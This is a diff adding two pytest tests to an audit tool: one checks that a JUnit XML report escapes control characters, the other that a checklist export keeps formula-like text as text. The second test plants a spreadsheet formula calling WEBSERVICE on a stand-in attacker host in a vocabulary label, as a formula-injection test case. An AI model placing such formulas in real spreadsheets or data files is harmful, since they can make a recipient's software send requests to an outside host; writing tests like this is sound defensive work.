@@ -184,3 +184,37 @@ def test_cache_folder_writable_by_others_is_not_used(tmp_path: Path) -> None:
     assert run.code == 0
     assert "未使用缓存" in run.stderr
     assert list(folder.iterdir()) == []
+
+
+def test_junit_report_is_valid_xml_with_control_characters(tmp_path: Path) -> None:
+    import xml.etree.ElementTree as ET
+
+    community(tmp_path, EVIDENCE.replace("status: 达标", 'status: "\\x01\\x1b"'))
+    run = audit("validate", "c.yaml", "--format", "junit", "-o", "j.xml", cwd=tmp_path)
+    assert run.code == 1
+    ET.parse(tmp_path / "j.xml")  # parses: no raw control character
+    assert "\\x01" in (tmp_path / "j.xml").read_text(encoding="utf-8")
+
+
+def test_checklist_writes_formula_like_pack_text_as_text(tmp_path: Path) -> None:
+    """Packs are data anyone can send: a clause wording that looks like a formula stays text."""
+    from openpyxl import load_workbook
+
+    from .helpers import ROOT
+
+    pack = ROOT / "standards" / "jingzhi-2022"
+    tree = tmp_path / "standards"
+    tree.mkdir()
+    shutil.copy(pack.parent / "vocabulary.yaml", tree)
+    shutil.copytree(pack, tree / "p")
+    vocabulary = tree / "vocabulary.yaml"
+    text = vocabulary.read_text(encoding="utf-8")
+    assert "label: 社区常住户数" in text
+    vocabulary.write_text(text.replace("label: 社区常住户数", "label: '=WEBSERVICE(\"http://evil.example\")'"),
+                          encoding="utf-8")
+    run = audit("checklist", "-s", "standards/p", "-o", "x.xlsx", cwd=tmp_path)
+    assert run.code == 0, run.stderr
+    book = load_workbook(tmp_path / "x.xlsx")
+    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith("=WEBSERVICE")]
+    assert found and all(c.data_type == "s" for c in found)
